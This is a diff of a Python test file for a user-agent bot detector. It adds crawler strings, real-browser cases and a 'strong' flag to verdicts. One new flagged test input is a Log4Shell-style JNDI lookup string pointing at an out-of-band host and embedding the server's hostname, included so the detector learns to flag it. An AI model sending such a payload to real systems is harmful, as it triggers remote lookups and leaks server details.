@@ -14,7 +14,14 @@ from hypothesis import HealthCheck, example, given
 from hypothesis import settings as hsettings
 from hypothesis import strategies as st
 
-from collector.bots import NOT_BOT, BotDetector, BotVerdict, load_crawler_patterns, with_bot_category
+from collector.bots import (
+    NOT_BOT,
+    STRONG_KINDS,
+    BotDetector,
+    BotVerdict,
+    load_crawler_patterns,
+    with_bot_category,
+)
 from collector.device import ClientHints, Device
 from tests.support import TESTDATA
 
@@ -73,11 +80,14 @@ FLAGGED = [
     ("crawler:bingbot", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
     # heuristics
     ("heuristic:keyword:HubSeedsBot", "Mozilla/5.0 (compatible; HubSeedsBot/1.0)"),
-    ("heuristic:url:example.org", "Fetchy/2.0 (+https://www.example.org/fetchy)"),
+    ("heuristic:keyword:Fetchy-preview", "Fetchy-preview/2.0 (+https://www.example.org/fetchy)"),
+    ("heuristic:url:example.org", "Mozilla/5.0 (compatible; Fetchy 2.0; +https://www.example.org/fetchy)"),
+    ("heuristic:keyword:WebbCrawler", "WebbCrawler 1.0 ( http://badcheese.com/crawler.html )"),
+    ("heuristic:keyword:FeedBot", "Mozilla/5.0 (ShopAlike; LadenZeile) FeedBot"),
+    ("heuristic:jndi", "${jndi:ldap://${hostName}.useragent.example.oast.live}"),
+    ("heuristic:url:backlink-check.de", "Backlink-Check.de (+http://www.backlink-check.de/bot.html)"),
     ("heuristic:contact:example.org", "Grabby/1.0 (mailto ops@example.org)"),
     ("heuristic:compatible:Grabby", "Mozilla/5.0 (compatible; Grabby/1.0)"),
-    ("heuristic:unversioned", "desktop"),
-    ("heuristic:unversioned", "Acme Link Agent v.1d.2"),
     ("heuristic:bare_mozilla", "Mozilla/5.0"),
     ("empty_user_agent", ""),
     ("empty_user_agent", " \t "),
@@ -86,7 +96,9 @@ FLAGGED = [
 
 @pytest.mark.parametrize(("reason", "ua"), FLAGGED)
 def test_flagged_with_reason(bots: BotDetector, reason: str, ua: str) -> None:
-    assert bots.check(ua) == BotVerdict(True, reason)
+    """With the reason, and strong (what the filter policy drops) only for the kinds that
+    name themselves: crawlers, headless and monitoring agents."""
+    assert bots.check(ua) == BotVerdict(True, reason, reason.split(":")[0] in STRONG_KINDS)
 
 
 REAL = [
@@ -113,6 +125,18 @@ REAL = [
     "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/13.0 Safari/605.1.15",
     "Microsoft Office Word/16.78.1008 (Mac OS/14.0; Desktop; en-US; NonAppStore; Apple/Mac15,4)",
+    # the classes of issue 20, each once seen filtered: an Android 15 build id some crawler
+    # shares (AP3A.240617.008), "bot" in a model name, an OS service with no version token,
+    # a podcast app's URL
+    "Mozilla/5.0 (Linux; Android 15; SM-S928B Build/AP3A.240617.008; wv) AppleWebKit/537.36 "
+    "(KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.39 Mobile Safari/537.36 Instagram "
+    "357.0.0.25.101 Android (35/15; 480dpi; 1080x2340; samsung; SM-S928B; e3q; qcom; en_GB; 123)",
+    "Mozilla/5.0 (Linux; Android 8.1.0; M bot 54 Build/O11019) AppleWebKit/537.36 (KHTML, like "
+    "Gecko) Chrome/83.0.4103.106 Mobile Safari/537.36",
+    "com.apple.WebKit.Networking/8618.1.15.10.15 CFNetwork/1485 Darwin/23.1.0",
+    "desktop",
+    "Acme Link Agent v.1d.2",
+    "Overcast ( http://overcast.fm/; Apple Watch podcast app)",
 ]
 
 
@@ -124,7 +148,7 @@ def test_real_browsers_are_not_flagged(bots: BotDetector, ua: str) -> None:
 def test_headless_chrome_named_in_client_hints(bots: BotDetector) -> None:
     hints = ClientHints.from_headers(
         {b"sec-ch-ua": b'"HeadlessChrome";v="124", "Chromium";v="124", "Not-A.Brand";v="99"'})
-    assert bots.check(CHROME, hints) == BotVerdict(True, "headless:HeadlessChrome")
+    assert bots.check(CHROME, hints) == BotVerdict(True, "headless:HeadlessChrome", True)
     real = ClientHints.from_headers(
         {b"sec-ch-ua": b'"Google Chrome";v="124", "Chromium";v="124", "Not-A.Brand";v="99"'})
     assert bots.check(CHROME, real) == NOT_BOT
@@ -135,7 +159,7 @@ def test_corpus_bots_are_named_by_kind(bots: BotDetector) -> None:
     with CORPUS.open(newline="", encoding="utf-8") as f:
         rows = [row for row in csv.DictReader(f) if row["device_type"] == "bot"]
     verdicts = [bots.check(row["user_agent"]) for row in rows]
-    assert sum(v.is_bot for v in verdicts) >= 0.9 * len(rows)
+    assert sum(v.is_bot for v in verdicts) >= 0.85 * len(rows)
     for v in verdicts:
         if v.is_bot:
             assert v.reason is not None
@@ -152,7 +176,7 @@ def test_a_rule_the_regex_engine_rejects_is_left_out(caplog: pytest.LogCaptureFi
     with caplog.at_level(logging.WARNING, logger="collector.bots"):
         bots = BotDetector(crawler_patterns=[r"(?<=x)Lookbehind", r"Crawly/"])
     assert "Lookbehind" in caplog.text
-    assert bots.check("Crawly/1.0 x") == BotVerdict(True, "crawler:Crawly")
+    assert bots.check("Crawly/1.0 x") == BotVerdict(True, "crawler:Crawly", True)
     assert bots.check(CHROME) == NOT_BOT
 
 
